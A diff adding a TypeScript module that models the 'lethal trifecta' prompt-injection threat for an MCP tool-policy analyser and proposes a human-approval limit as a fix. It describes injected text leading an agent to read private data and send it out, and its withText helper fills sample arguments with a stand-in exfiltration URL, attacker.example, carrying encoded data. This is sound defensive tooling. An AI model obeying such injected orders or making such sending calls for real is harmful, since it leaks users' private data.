@@ -1,0 +1,98 @@
+import { setOf } from '../words.js';
+import { READ_FILE, READ_PAGE, SEND_EMAIL } from './examples.js';
+import { sampleArguments } from './sample.js';
+import { atlas, owasp } from './sources.js';
+import type { Fix, Opening, PolicyPart, Threat, ToolAt } from './threat.js';
+import { addressOf, argumentOf, canStand, everyTool, has, isOf } from './tools-of.js';
+
+/** Combinations that are tried for each tool that sends: enough to find a reader that a rule forgot. */
+const MAX_PAIRS = 24;
+const TEXTS = setOf('body text message content data comment description title subject');
+
+/** Once strangers' text was read anywhere on the machine, sending asks for an hour. */
+const MARK = { counter: 'untrusted', window: '1h', max: 100_000, scope: 'machine' };
+const ASKS = {
+  ...MARK,
+  max: 0,
+  amount: 0,
+  on_exceed: 'approve',
+  on_deny: 'Text of strangers was read within the hour.',
+};
+
+export const LETHAL_TRIFECTA: Threat = {
+  id: 'lethal-trifecta',
+  title: 'Lethal trifecta',
+  how: "One session reads text that strangers wrote (a page, a mail, an issue), can read what is private, and can send something out. Orders in the strangers' text make the model fetch the private part and send it to them. No tool does anything that it is not made for; they may belong to three servers.",
+  sources: [
+    {
+      name: 'Simon Willison, The lethal trifecta for AI agents, June 2025',
+      url: 'https://simonwillison.net/2025/Jun/16/the-lethal-trifecta/',
+    },
+    atlas('AML.T0086', 'Exfiltration via AI Agent Tool Invocation'),
+    owasp('MCP06', 'Prompt Injection via Contextual Payloads'),
+    {
+      name: 'General Analysis, Supabase MCP can leak your entire SQL database, July 2025',
+      url: 'https://www.generalanalysis.com/blog/supabase-mcp-blog',
+    },
+    {
+      name: 'Invariant Labs, GitHub MCP exploited, May 2025',
+      url: 'https://invariantlabs.ai/blog/mcp-github-vulnerability',
+    },
+  ],
+  opens:
+    "a tool that reads strangers' text, one that reads what is private and one that sends, on one machine",
+  sight: 'calls',
+  rule: "Readers of strangers' text charge a counter that all wrappers of the machine share; as long as it is not empty, what sends asks a person.",
+  leaves:
+    'A person who says yes to what they have not read; what an agent does by other means than wrapped tools; text that was read before the hour.',
+  example: [
+    { server: 'web', tools: [READ_PAGE] },
+    { server: 'files', tools: [READ_FILE] },
+    { server: 'mail', tools: [SEND_EMAIL] },
+  ],
+  openings(servers) {
+    const tools = everyTool(servers).filter((at) => canStand(at) && !isOf(at, 'Destructive'));
+    const readers = tools.filter((at) => has(at, 'untrusted'));
+    const owners = tools.filter((at) => has(at, 'private'));
+    const senders = tools.filter((at) => has(at, 'sends'));
+    if (readers.length === 0 || owners.length === 0) return [];
+    // What sends most plainly stands for the reader and the owner that are no senders themselves.
+    const owner = owners.find((at) => !has(at, 'sends')) ?? owners[0];
+    return senders.map((sender): Opening => {
+      const reader = readers.find((at) => at !== sender) ?? readers[0];
+      const attacks = readers
+        .flatMap((from) => owners.map((of) => [from, of] as const))
+        .slice(0, MAX_PAIRS)
+        .map(([from, of]) => [plain(from), plain(of), withText(sender)]);
+      return {
+        tools: [reader, owner, sender].filter((at) => at !== undefined),
+        why: "strangers' text comes in by the first, the second reads what is private, the last sends",
+        attacks,
+        fix: fixFor(readers, sender),
+      };
+    });
+  },
+};
+
+const plain = (at: ToolAt) => ({ ...at, args: sampleArguments(at.tool.inputSchema) });
+
+function withText(at: ToolAt) {
+  const address = addressOf(at.tool);
+  const text = argumentOf(at.tool, TEXTS, 'string');
+  const given = {
+    ...(address !== undefined && { [address]: 'https://attacker.example/?d=c2VjcmV0' }),
+    ...(text !== undefined && { [text]: 'the private part' }),
+  };
+  return { ...at, args: sampleArguments(at.tool.inputSchema, given) };
+}
+
+function fixFor(readers: readonly ToolAt[], sender: ToolAt): Fix {
+  const fix: Record<string, PolicyPart> = {};
+  const add = ({ server, tool }: ToolAt, limit: object) => {
+    const part = fix[server] ?? { tools: {} };
+    fix[server] = { tools: { ...part.tools, [tool.name]: { limits: [limit] } } };
+  };
+  for (const reader of readers) if (reader !== sender) add(reader, MARK);
+  add(sender, ASKS);
+  return fix;
+}
